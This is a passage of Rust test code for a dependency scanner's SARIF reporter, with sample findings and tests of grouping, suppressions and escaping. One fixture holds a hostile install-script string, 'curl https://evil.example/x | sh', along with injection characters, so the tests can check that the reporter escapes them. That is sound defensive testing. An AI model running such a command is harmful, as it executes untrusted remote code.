        let mut b = bundle("worker", "services/worker/poetry.lock", "poetry.lock", g);
        let no_severity = advisory("PYSEC-2021-98", None, None, &["3.2.2"], "Django path traversal");
        let ignored = advisory("GHSA-8q59-q68h-6hv4", Some(Level::Critical), Some(9.8), &["5.4"], "PyYAML RCE");
        let ignore = Status::Ignored {
            reason: "loader is never used | <b>safe</b>".into(),
            until: Some("2030-01-01".into()),
            source: PathBuf::from("bundleguard.toml"),
        };
        b.findings = vec![
            finding(&b, django, no_severity, Level::Medium, Status::BelowThreshold),
            finding(&b, pyyaml, ignored, Level::Critical, ignore),
        ];
        b
    }

    fn go_bundle() -> BundleReport {
        let mut g = DepGraph::new();
        let net =
            g.add_node(package(Ecosystem::Go, "golang.org/x/net", "v0.0.0-20220127200216-cd36cc0744dd", Scope::Prod));
        let toml = g.add_node(package(Ecosystem::Go, "github.com/BurntSushi/toml", "v1.2.0+incompatible", Scope::Prod));
        g.add_root(net);
        g.add_edge(net, toml);
        g.finish();
        let mut b = bundle("edge", "functions/edge/go.mod", "go.mod", g);
        let a = advisory(
            "GO-2022-0288",
            Some(Level::High),
            Some(7.5),
            &["0.0.0-20221214163811-6a54e0e5e1b4"],
            "Unbounded memory",
        );
        b.findings = vec![finding(&b, net, a, Level::High, Status::Gating)];
        b
    }

    fn cargo_bundle() -> BundleReport {
        let mut g = DepGraph::new();
        let app = g.add_node(Package {
            source: Source::Workspace,
            ..package(Ecosystem::CratesIo, "app", "0.1.0", Scope::Prod)
        });
        let time = g.add_node(package(Ecosystem::CratesIo, "time", "0.1.43", Scope::Prod));
        let smallvec = g.add_node(Package {
            source: Source::Git { url: "https://github.com/servo/rust-smallvec".into(), rev: Some("abc123".into()) },
            ..package(Ecosystem::CratesIo, "smallvec", "1.6.0", Scope::Prod)
        });
        g.add_edge(app, time);
        g.add_edge(app, smallvec);
        g.add_root(app);
        g.finish();
        let mut b = bundle("rust fn", "functions/rust fn/Cargo.lock", "Cargo.lock", g);
        let a =
            advisory("RUSTSEC-2020-0071", Some(Level::Medium), Some(6.2), &["0.2.23"], "Potential segfault in time");
        b.findings = vec![finding(&b, time, a, Level::Medium, Status::Baseline)];
        b
    }

    /// What a reporter writes for `result`, as text.
    pub fn rendered(
        render: fn(&ScanResult, &mut dyn std::io::Write) -> std::io::Result<()>,
        result: &ScanResult,
    ) -> String {
        let mut out = Vec::new();
        render(result, &mut out).expect("render");
        String::from_utf8(out).expect("utf-8")
    }
    /// The scan result the snapshot and schema tests render.
    pub fn result() -> ScanResult {
        ScanResult {
            bundles: vec![npm_bundle(), python_bundle(), go_bundle(), cargo_bundle()],
            errors: vec![crate::vocab::Diagnostic::at(
                "lockfile/parse",
                "services/broken/package-lock.json",
                "line 3: expected `,` | <img src=x>",
            )],
            warnings: vec![crate::vocab::Diagnostic::new("db/stale", "the advisory database is 9 days old")],
            not_evaluated: Vec::new(),
            coverage: Vec::new(),
            verdict: Verdict::Fail,
            fail_on: Level::High,
            include_dev: false,
        }
    }

    /// A risk finding of `code` on `node` of `bundle`.
    pub fn risk(bundle: &BundleReport, node: usize, code: &'static str, level: Level, status: Status) -> RiskFinding {
        RiskFinding {
            code: crate::vocab::Code::new(code),
            package: Some(bundle.graph.node(node).clone()),
            node: Some(node),
            location: None,
            message: format!("{code} on {}", bundle.graph.node(node).name),
            evidence: vec![crate::vocab::Evidence::new("seen", "2025-09-08T13:00:00Z")],
            level,
            status,
        }
    }

    /// [`result`] with risk findings of every kind (one with hostile text, one ignored), packages
    /// not evaluated and signal coverage.
    pub fn with_risks() -> ScanResult {
        let mut out = result();
        let api = &out.bundles[0];
        let mut hostile = risk(api, 0, "takeover/install-script-added", Level::High, Status::Gating);
        hostile.message = "postinstall `curl https://evil.example/x | sh`\n::error::pwned \u{202e}<script>".into();
        hostile.evidence.push(crate::vocab::Evidence::new("script", "node \u{200b}install.js\n::warning::x"));
        let ignored =
            Status::Ignored { reason: "known".into(), until: None, source: PathBuf::from("bundleguard.toml") };
        let risks = vec![
            hostile,
            risk(api, 1, "takeover/too-fresh", Level::Medium, ignored),
            risk(api, 2, "stale/deprecated", Level::Low, Status::BelowThreshold),
            risk(api, 3, "unused/declared", Level::Low, Status::Info),
            RiskFinding {
                location: Some("node_modules/jest".into()),
                ..risk(api, 3, "hygiene/dev-shipped", Level::Low, Status::Info)
            },
        ];
        out.bundles[0].risks = risks;
        let worker = &out.bundles[1];
        let stale = risk(worker, 1, "stale/yanked", Level::Medium, Status::BelowThreshold);
        out.bundles[1].risks = vec![stale];
        out.not_evaluated = vec![crate::finding::NotEvaluated {
            bundle: "services/api/package-lock.json".into(),
            package: "left-pad@latest".into(),
            reason: "not an exact version".into(),
        }];
        out.coverage = vec![crate::vocab::Coverage {
            code: crate::vocab::Code::new("takeover/new-publisher"),
            evaluated: 812,
            total: 3181,
            reason: Some("publisher stripped by the registry mirror".into()),
        }];
        out.verdict = Verdict::Incomplete;
        out
    }

    /// `bundles` bundles of `per_bundle` vulnerable packages each, `advisories` advisories per
    /// package (every tenth package shares them): a large monorepo.
    pub fn large(bundles: usize, per_bundle: usize, advisories: usize) -> ScanResult {
        let mut out = result();
        out.bundles.clear();
        for b in 0..bundles {
            let mut g = DepGraph::new();
            for p in 0..per_bundle {
                let node = g.add_node(package(Ecosystem::Npm, &format!("pkg-{p}"), "1.0.0", Scope::Prod));
                g.add_root(node);
            }
            g.finish();
            let mut report =
                bundle(&format!("fn-{b}"), &format!("functions/fn-{b}/package-lock.json"), "package-lock.json", g);
            for p in 0..per_bundle {
                for a in 0..advisories {
                    let adv = advisory(
                        &format!("GHSA-{a:04}-{:04}", p % 10),
                        Some(Level::High),
                        Some(7.0),
                        &["2.0.0"],
                        "Something bad",
                    );
                    let f = finding(&report, p, adv, Level::High, Status::Gating);
                    report.findings.push(f);
                }
            }
            out.bundles.push(report);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gzip_never_writes_more_than_the_bound() {
        // Incompressible bytes (xorshift), the worst case, and text, at sizes around block edges.
        let mut state = 0x9e37_79b9_7f4a_7c15_u64;
        let noise: Vec<u8> = (0..3_000_000)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                state.to_le_bytes()[0]
            })
            .collect();
        let text = "{\"ruleId\": \"GHSA-xxxx\"}\n".repeat(100_000);
        for len in [0, 1, 100, 65_535, 65_536, 1_000_000, 3_000_000] {
            let n = gzipped_len(&noise[..len]).expect("gzip");
            assert!(n <= gzip_bound(len), "{len} random bytes gzip to {n}");
        }
        let n = gzipped_len(text.as_bytes()).expect("gzip");
        assert!(n <= gzip_bound(text.len()), "text: {n}");
        // The shortcut and the measure agree on both sides of the limit.
        for limit in [10, 1_000, 100_000, 2_999_999, 3_000_000, 3_100_000] {
            let measured = gzipped_len(&noise).expect("gzip") <= limit;
            assert_eq!(fits_gzipped(&noise, limit).expect("gzip"), measured, "limit {limit}");
        }
    }

    fn render_to_value(result: &ScanResult) -> serde_json::Value {
        serde_json::from_str(&sample::rendered(render, result)).expect("valid JSON")
    }

    #[test]
    fn snapshot() {
        insta::assert_snapshot!(sample::rendered(render, &sample::result()));
    }

    #[test]
    fn deterministic() {
        let (mut a, mut b) = (Vec::new(), Vec::new());
        render(&sample::result(), &mut a).expect("render");
        render(&sample::result(), &mut b).expect("render");
        assert_eq!(a, b);
    }

    #[test]
    fn rules_results_and_suppressions() {
        let v = render_to_value(&sample::result());
        let run = &v["runs"][0];
        let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
        assert_eq!(rules.len(), 7, "one rule per advisory");
        let results = run["results"].as_array().expect("results");
        assert_eq!(results.len(), 7);
        for r in results {
            let index = r["ruleIndex"].as_u64().and_then(|i| usize::try_from(i).ok()).expect("index");
            assert_eq!(rules[index]["id"], r["ruleId"]);
        }
        let pyyaml = results.iter().find(|r| r["ruleId"] == "GHSA-8q59-q68h-6hv4").expect("ignored result");
        assert_eq!(pyyaml["suppressions"][0]["kind"], "external");
        assert_eq!(pyyaml["level"], "error");
        let rule = rules.iter().find(|r| r["id"] == "PYSEC-2021-98").expect("rule");
        assert_eq!(rule["properties"]["security-severity"], "5.5", "default score for medium");
        let qs = results.iter().find(|r| r["ruleId"] == "GHSA-hrpp-h998-j3pp").expect("qs");
        assert_eq!(qs["locations"][0]["physicalLocation"]["region"]["startLine"], 10);
        let rust = results.iter().find(|r| r["ruleId"] == "RUSTSEC-2020-0071").expect("rust");
        assert_eq!(
            rust["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "functions/rust%20fn/Cargo.lock"
        );
    }

    #[test]
    fn fingerprints_ignore_version_and_line() {
        let mut result = sample::result();
        let v1 = render_to_value(&result);
        let f = &mut result.bundles[0].findings[0];
        f.package.version = "6.7.1".into();
        f.line = Some(99);
        let v2 = render_to_value(&result);
        let fp = |v: &serde_json::Value| v["runs"][0]["results"][0]["partialFingerprints"].clone();
        assert_eq!(fp(&v1), fp(&v2));
    }

    #[test]
    fn groups_above_the_result_limit() {
        // 3 bundles x 100 packages x 90 advisories = 27,000 findings, above 25,000; advisories
        // are shared by every tenth package, so 3 x 10 x 90 groups.
        let result = sample::large(3, 100, 90);
        let mut out = Vec::new();
        let grouping = render_within(&result, GITHUB_LIMITS, &mut out).expect("render");
        assert_eq!(grouping, Grouping::BundleAndAdvisory);
        let v: serde_json::Value = serde_json::from_slice(&out).expect("json");
        let results = v["runs"][0]["results"].as_array().expect("results");
        assert_eq!(results.len(), 3 * 10 * 90);
        assert!(gzipped_len(&out).expect("gzip") <= GITHUB_LIMITS.gzip_bytes);
    }

    #[test]
    fn groups_by_gzipped_size() {
        let result = sample::large(4, 20, 1);
        let generous = Limits { results: 1_000, gzip_bytes: 10_000_000, locations: 1_000 };
        let mut out = Vec::new();
        assert_eq!(render_within(&result, generous, &mut out).expect("render"), Grouping::Finding);
        let size = gzipped_len(&out).expect("gzip");
        let smaller = Limits { gzip_bytes: size - 1, ..generous };
        let mut out = Vec::new();
        assert_eq!(render_within(&result, smaller, &mut out).expect("render"), Grouping::BundleAndAdvisory);
        let v: serde_json::Value = serde_json::from_slice(&out).expect("json");
        assert_eq!(v["runs"][0]["results"].as_array().map(Vec::len), Some(4 * 10), "one per bundle and advisory");
    }

    #[test]
    fn groups_per_advisory_then_keeps_the_worst() {
        let mut result = sample::large(4, 20, 1);
        result.bundles[3].findings[5].severity = Level::Critical;
        let few = Limits { results: 5, gzip_bytes: 10_000_000, locations: 2 };
        let mut out = Vec::new();
        assert_eq!(render_within(&result, few, &mut out).expect("render"), Grouping::Advisory);
        let v: serde_json::Value = serde_json::from_slice(&out).expect("json");
        let results = v["runs"][0]["results"].as_array().expect("results");
        assert_eq!(results.len(), 5);
        assert_eq!(results[0]["locations"].as_array().map(Vec::len), Some(2), "locations capped");
        assert!(results.iter().any(|r| r["properties"]["severity"] == "critical"), "the worst is kept");
        let notes = &v["runs"][0]["invocations"][0]["toolExecutionNotifications"];
        assert!(notes[1]["message"]["text"].as_str().is_some_and(|t| t.contains("left out")));
    }

    #[test]
    fn risk_findings_have_a_rule_per_code() {
        // Schema validity of risk results: tests/it/report_schemas.rs.
        let v = render_to_value(&sample::with_risks());
        let run = &v["runs"][0];
        let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
        let codes: Vec<&str> = rules.iter().filter_map(|r| r["id"].as_str()).filter(|id| id.contains('/')).collect();
        assert_eq!(
            codes,
            [
                "hygiene/dev-shipped",
                "stale/deprecated",
                "stale/yanked",
                "takeover/install-script-added",
                "takeover/too-fresh",
                "unused/declared"
            ]
        );
        let results = run["results"].as_array().expect("results");
        assert_eq!(results.len(), 7 + 6, "the advisories' results, then one per risk finding");
        for r in results {
            let index = r["ruleIndex"].as_u64().and_then(|i| usize::try_from(i).ok()).expect("index");
            assert_eq!(rules[index]["id"], r["ruleId"]);
        }
        let by_rule = |id: &str| results.iter().find(|r| r["ruleId"] == id).expect(id);
        let script = by_rule("takeover/install-script-added");
        assert_eq!(script["level"], "error");
        assert_eq!(script["properties"]["kind"], "takeover");
        assert_eq!(script["properties"]["evidence"]["seen"], "2025-09-08T13:00:00Z");
        assert_eq!(script["properties"]["evidence"]["script"], "node \\u{200b}install.js ::warning::x");
        assert_eq!(
            script["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "services/api/package-lock.json"
        );
        let message = script["message"]["text"].as_str().expect("text");
        assert!(message.starts_with("express@4.17.1: postinstall") && !message.contains('\n'), "{message}");
        assert!(message.contains("\\u{202e}") && !message.contains('\u{202e}'), "{message}");
        assert_eq!(
            by_rule("takeover/too-fresh")["suppressions"][0]["justification"],
            "known; ignored in bundleguard.toml"
        );
        assert_eq!(by_rule("stale/deprecated")["level"], "note");
        assert_eq!(by_rule("stale/yanked")["level"], "warning");
        assert_eq!(by_rule("unused/declared")["level"], "note", "info never alerts above a note");
        assert_eq!(by_rule("hygiene/dev-shipped")["properties"]["location"], "node_modules/jest");
        let rule = rules.iter().find(|r| r["id"] == "takeover/install-script-added").expect("rule");
        assert_eq!(rule["defaultConfiguration"]["level"], "error");
        assert_eq!(run["properties"]["notEvaluated"], 1);
        assert_eq!(run["properties"]["coverage"][0]["code"], "takeover/new-publisher");
        assert_eq!(run["properties"]["coverage"][0]["evaluated"], 812);
    }

    #[test]
    fn an_incomplete_scan_did_not_execute_successfully() {
        let v = render_to_value(&sample::with_risks());
        let invocation = &v["runs"][0]["invocations"][0];
        assert_eq!(invocation["executionSuccessful"], false);
        let notes = invocation["toolExecutionNotifications"].as_array().expect("notifications");
        assert_eq!(notes[0]["level"], "error");
        assert!(
            notes[0]["message"]["text"].as_str().is_some_and(|t| t.starts_with("services/broken/package-lock.json: "))
        );
        assert_eq!(notes[1]["level"], "warning");
        let mut complete = sample::result();
        complete.errors.clear();
        let v = render_to_value(&complete);
        assert!(v["runs"][0].get("invocations").is_none(), "a complete scan with nothing to say has none");
        complete.verdict = Verdict::Incomplete;
        let v = render_to_value(&complete);
        assert_eq!(v["runs"][0]["invocations"][0]["executionSuccessful"], false);
    }

    #[test]
    fn uris() {
        assert_eq!(artifact_uri("./a b/package-lock.json"), "a%20b/package-lock.json");
        assert_eq!(artifact_uri("dir\\poetry.lock"), "dir/poetry.lock");
        assert_eq!(artifact_uri("/abs/#x/Cargo.lock"), "file:///abs/%23x/Cargo.lock");
    }
}
